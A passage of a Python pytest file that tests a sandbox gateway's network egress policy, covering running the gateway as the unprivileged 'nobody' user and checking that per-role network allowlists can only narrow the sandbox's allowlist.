    if probe.returncode != 0 or probe.stdout.strip() != str(sys.version_info[:2]):
        pytest.skip("no system python of the venv's version to run the gateway as another user")
    nobody = 65534
    ws, policy, audit = _setup(tmp_path, f'{{allow: ["localhost:{server}", "127.0.0.1"]}}')
    policy.write_text(policy.read_text() + 'second_opinion: {unconfirmed: "allow"}\n')
    home = tmp_path / "home"
    home.mkdir()
    for p in (tmp_path, ws, home, *ws.iterdir()):
        os.chown(p, nobody, nobody)
    repo = Path(__file__).resolve().parents[2]
    path = os.pathsep.join([str(repo), sysconfig.get_paths()["purelib"], sysconfig.get_paths()["platlib"]])
    proc = subprocess.run(
        ["setpriv", f"--reuid={nobody}", f"--regid={nobody}", "--clear-groups", "env", f"HOME={home}",
         f"XDG_STATE_HOME={home}/state", f"PYTHONPATH={path}", str(system), "-m", "gateway", "run",
         "--policy", str(policy), "--workspace", str(ws), "--audit-dir", str(audit), "--",
         f"python3 client.py raw localhost.,{server},localhost"],
        capture_output=True, text=True, timeout=300, check=False,
    )  # fmt: skip
    assert "status 200" in proc.stdout, proc.stdout + proc.stderr
    assert [r["data"]["via"] for r in records(audit, "egress_allowed")] == ["transparent"]


def test_a_role_takes_a_network_of_its_own_that_narrows_the_sandboxes(tmp_path: Path, server: int) -> None:
    """Per role: a role's `network` replaces sandbox.network for its principals, and may only
    narrow it; roles of one principal that disagree are a load error."""
    base = f'{{allow: ["localhost:{server}", "127.0.0.1", "api.example.com"]}}'
    ws, policy, audit = _setup(tmp_path, base)
    text = policy.read_text()
    narrowed = text.replace(
        '  dev: {level: 2, read_roots: ["."], write_roots: ["."]}',
        '  dev: {level: 2, read_roots: ["."], write_roots: ["."], network: {allow: ["api.example.com"]}}',
    )
    assert narrowed != text
    policy.write_text(narrowed)
    out = run(policy, ws, audit, f"python3 client.py raw localhost.,{server},localhost")
    assert "status 200" not in out, out  # the role's network does not name localhost
    compiled = load_policy(policy, ws)
    everything, egress = compiled.network_of("agent")
    assert not everything and egress is not None and [p.text for p in egress.allow] == ["api.example.com"]
    policy.write_text(narrowed.replace('network: {allow: ["api.example.com"]}', 'network: {allow: ["github.com"]}'))
    with pytest.raises(PolicyError, match=r"roles\.dev\.network: allowing \['github\.com'\]"):
        load_policy(policy, ws)
    policy.write_text(narrowed.replace('network: {allow: ["api.example.com"]}', "network: true"))
    with pytest.raises(PolicyError, match=r"roles\.dev\.network"):
        load_policy(policy, ws)
